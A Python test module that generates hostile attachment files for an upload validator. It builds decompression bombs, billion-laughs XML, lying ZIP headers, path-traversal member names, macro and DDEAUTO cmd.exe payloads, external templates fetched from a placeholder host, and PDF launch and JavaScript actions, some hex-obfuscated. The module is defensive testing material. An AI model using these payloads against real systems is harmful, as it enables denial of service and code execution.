"""Files that are made to harm whoever takes them: a few hundred, made on the spot, by kind."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from PIL import Image

from core import active, attachments

MEGA = 1024 * 1024
PDF = b"%%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%s\ntrailer << /Root 1 0 R >>\n%%%%EOF\n"
TYPES = b'<?xml version="1.0"?><Types xmlns="http://types.example"/>'
MAIN = {"docx": "word/document.xml", "pptx": "ppt/presentation.xml", "xlsx": "xl/workbook.xml"}
LAUGHS = (
    b'<!DOCTYPE x [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (99 + n, b"&%c;" % (98 + n if n else 97) * 10) for n in range(10))
    + b"]><x>&l;</x>"
)


@dataclass(frozen=True)
class Hostile:
    """A file by its name; `never`: whether it may not be kept."""

    name: str
    content: bytes
    never: bool = True


def document(kind: str = "docx", *, method: int = zipfile.ZIP_DEFLATED, **more: bytes) -> bytes:
    """An office document; double underscores in names are slashes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as made:
        if kind in MAIN:
            made.writestr("[Content_Types].xml", TYPES)
            made.writestr(MAIN[kind], b"<w/>")
        else:
            made.writestr("mimetype", attachments.TYPES[kind])
        for name, content in more.items():
            made.writestr(name.replace("__", "/"), content)
    return out.getvalue()


def picture(kind: str, size: tuple[int, int] = (64, 48), mode: str = "RGB", **kept: object) -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 90).convert(mode).save(out, kind, **kept)
    return out.getvalue()


def chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def png(width: int, height: int, *extra: bytes, depth: int = 8, colour: int = 2, data: bytes = b"") -> bytes:
    """A PNG that says to be this large, whatever stands in it."""
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    parts = [
        chunk(b"IHDR", head),
        *extra,
        chunk(b"IDAT", data or zlib.compress(bytes(1000))),
        chunk(b"IEND", b""),
    ]
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def broken(name: str, content: bytes, times: int, seed: int) -> Iterator[Hostile]:
    """Cut off and changed at places that a seed chooses."""
    chance = random.Random(seed)
    for _time in range(times):
        yield Hostile(name, content[: chance.randrange(1, len(content))], never=False)
        spoilt = bytearray(content)
        for _byte in range(chance.randrange(1, 30)):
            spoilt[chance.randrange(8, len(spoilt))] = chance.randrange(256)
        yield Hostile(name, bytes(spoilt), never=False)


def pictures() -> Iterator[Hostile]:
    """Too large, too many layers, bombs beside the picture, halves."""
    for side in (20_000, 65_535, 2**31 - 1):
        yield Hostile("groot.png", png(side, side))
        yield Hostile("lang.png", png(side, 1_600))
    bomb = zlib.compress(bytes(50 * MEGA), 9)
    for name in (b"zTXt", b"iCCP"):
        yield Hostile("naast.png", png(8, 8, chunk(name, b"x\0\0" + bomb)), never=False)
    yield Hostile("naast.png", png(8, 8, chunk(b"iTXt", b"x\0\1\0\0\0" + bomb)), never=False)
    yield Hostile("veel.png", png(8, 8, *[chunk(b"tEXt", b"a\0b")] * 100_000), never=False)
    yield Hostile("plat.png", png(5_000, 5_000, data=bomb), never=False)
    for colour, depth in ((0, 16), (6, 16), (3, 1), (4, 8), (9, 9), (2, 3)):
        yield Hostile("vreemd.png", png(3_000, 3_000, depth=depth, colour=colour, data=bomb), never=False)
    layers = picture("JPEG", (2_000, 1_500), progressive=True)
    at = layers.rindex(b"\xff\xda")
    yield Hostile("lagen.jpg", layers[:at] + layers[at:-2] * 9 + b"\xff\xd9", never=False)
    yield Hostile(
        "lagen.jpg", layers[:at] + b"\xff\xda\x00\x08\x01\x01\x00\x3f\x3f\x10" * 500_000 + layers[at:]
    )
    huge = bytearray(picture("JPEG"))
    frame = huge.index(b"\xff\xc0")
    huge[frame + 5 : frame + 9] = b"\xff\xff\xff\xff"
    yield Hostile("groot.jpg", bytes(huge))
    for content in (b"GIF89a" + bytes(100), b"<svg onload='x'/>", b"BM" + bytes(100), b"RIFF0000WEBPVP8 "):
        yield Hostile("anders.png", content)
        yield Hostile("anders.jpg", content)
    yield Hostile("tegelijk.jpg", picture("JPEG") + document(), never=False)
    yield from broken("foto.jpg", picture("JPEG"), 12, 1)
    yield from broken("beeld.png", picture("PNG"), 12, 2)
    yield from broken("lagen.jpg", picture("JPEG", progressive=True), 6, 3)


def bombs() -> Iterator[Hostile]:
    """Archives that are huge once unpacked, or that say they are not."""
    for kind in ("docx", "pptx", "xlsx", "odt", "ods", "odp"):
        whole = document(kind)
        yield Hostile(f"bom.{kind}", document(kind, word__media__image1=bytes(210 * MEGA)))
        yield Hostile(f"veel.{kind}", document(kind, **{f"a{n}": b"" for n in range(2_001)}))
        listed = whole[: whole.rindex(b"PK\x05\x06")]
        for size in (0, 0x7FFFFFFF, 0xFFFFFFFF, 9 * MEGA):
            end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 0xFFFF, 0xFFFF, size, len(listed), 0)
            yield Hostile(f"liegt.{kind}", listed + end)
        yield Hostile(
            f"lijst.{kind}", listed + b"PK\x01\x02" + bytes(42) * 200_000 + whole[-22:], never=False
        )
        yield Hostile(f"einden.{kind}", whole + b"PK\x05\x06" * 100_000, never=False)
        yield Hostile(f"onbekend.{kind}", whole.replace(b"\x08\x00", b"\x63\x00"), never=False)
        yield Hostile(f"voorop.{kind}", b"MZ\x90\x00" + whole)
        yield Hostile(f"voorop.{kind}", b"GIF89a" + whole)
        yield Hostile(f"laughs.{kind}", document(kind, content=LAUGHS), never=False)
        yield Hostile(
            f"nest.{kind}", document(kind, binnen=document(kind, binnen=bytes(9 * MEGA))), never=False
        )
        yield from broken(
            f"half.{kind}", document(kind, word__styles=random.Random(4).randbytes(4_000)), 4, 5
        )
    for name in (
        "../../etc/passwd",
        "/etc/passwd",
        "C:\\windows\\x",
        "a\\..\\..\\x",
        "con",
        "x" * 60_000,
        "é\u202e",
    ):
        yield Hostile("pad.docx", document(**{name: b"x"}), never=False)


def programs() -> Iterator[Hostile]:
    """What runs or fetches something when it is opened."""
    inside = (
        "word__vbaProject.bin",
        "xl__macrosheets__sheet1.xml",
        "Basic__Standard__Module1.xml",
        "Scripts__python__x",
    )
    more = (
        "word__activeX__activeX1.xml",
        "word__embeddings__oleObject1.bin",
        "word__media__x.exe",
        "a.js",
        "x.LNK",
    )
    for kind in ("docx", "xlsx", "odt"):
        for part in (*inside, *more):
            yield Hostile(f"macro.{kind}", document(kind, **{part: b"x"}))
    fetched = b'<Relationship Id="1" Type="http://rel.example/%s" Target="http://x.example/a.dotm" TargetMode="External"/>'
    for what in (b"attachedTemplate", b"oleObject", b"frame", b"subDocument"):
        yield Hostile("haalt.docx", document(**{"word/_rels/s.xml.rels": fetched % what}))
    text = b"<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("[Content_Types].xml", TYPES)
        made.writestr("word/document.xml", text)
    yield Hostile("veld.docx", out.getvalue())
    yield Hostile("eicar.docx", document(method=zipfile.ZIP_STORED, x=active.EICAR))
    yield Hostile("eicar.pdf", PDF % active.EICAR)
    acts = (
        b"/JavaScript (x)",
        b"/JS (app.alert(1))",
        b"/Launch",
        b"/EmbeddedFile",
        b"/RichMedia",
        b"/XFA",
        b"/SubmitForm",
    )
    for act in acts:
        yield Hostile("script.pdf", PDF % (b"2 0 obj << /S %s >> endobj" % act))
        hidden = b"/" + b"".join(b"#%02x" % letter for letter in act.split()[0][1:])
        yield Hostile("verstopt.pdf", PDF % (b"2 0 obj << /S %s >> endobj" % hidden))
        pressed = zlib.compress(b"2 0 << /S %s >>" % act)
        stream = b"3 0 obj << /Type /ObjStm /Filter /FlateDecode >> stream\n%s\nendstream endobj" % pressed
        yield Hostile("geperst.pdf", PDF % stream)


def odd_pdfs() -> Iterator[Hostile]:
    """PDFs that cost whoever looks inside."""
    bomb = zlib.compress(bytes(100 * MEGA), 9)
    stream = b"3 0 obj << /Type /ObjStm >> stream\n%s\nendstream endobj "
    yield Hostile("bom.pdf", PDF % (stream % bomb) * 60, never=False)
    for filling in (
        b"stream\n",
        b"stream\nendstream",
        b"/ObjStm stream\nx\nendstream",
        b"#41",
        b"#",
        b"/",
        b"/J",
        b"obj",
    ):
        yield Hostile("vol.pdf", (PDF % (filling * (9 * MEGA // len(filling))))[: 9 * MEGA], never=False)
    yield Hostile("ook.pdf", (PDF % b"") + document())
    yield Hostile("ook.pdf", (PDF % b"") + b"<html><script>alert(1)</script>", never=False)
    yield from broken("half.pdf", PDF % (stream % zlib.compress(b"x" * 999)), 10, 6)


def not_what_they_say() -> Iterator[Hostile]:
    """Names and beginnings of something else."""
    for content in (
        b"",
        b"\xff\xfe<\0h\0t\0m\0l\0>\0",
        b"MZ\x90",
        b"#!/bin/sh\n",
        b"<html>",
        b"\x7fELF",
        b"{\\rtf1\\object}",
        b"\0" * 999,
    ):
        for kind in attachments.TYPES:
            yield Hostile(f"anders.{kind}", content)
    for name in (
        "a.pdf.exe",
        "a.html",
        "a.svg",
        "a.docm",
        "a.xlsm",
        "a.pdf\x00.exe",
        "a",
        "",
        ".",
        "..",
        "a.pdf/",
        "x.PDF ",
    ):
        yield Hostile(name, PDF % b"")


KINDS = {each.__name__: each for each in (pictures, bombs, programs, odd_pdfs, not_what_they_say)}
